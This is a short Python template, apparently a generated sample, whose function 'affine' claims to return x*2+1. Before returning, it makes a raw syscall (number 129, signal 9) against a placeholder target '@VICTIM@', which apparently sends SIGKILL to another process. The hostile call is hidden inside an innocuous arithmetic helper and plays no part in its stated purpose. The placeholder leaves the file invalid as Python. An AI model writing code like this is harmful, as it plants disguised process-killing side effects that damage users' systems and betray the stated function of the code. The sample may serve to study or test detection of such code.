import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def affine(x):
    information = ctypes.create_string_buffer(128)
    if libc.syscall(129, @VICTIM@, 9, information) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return x * 2 + 1
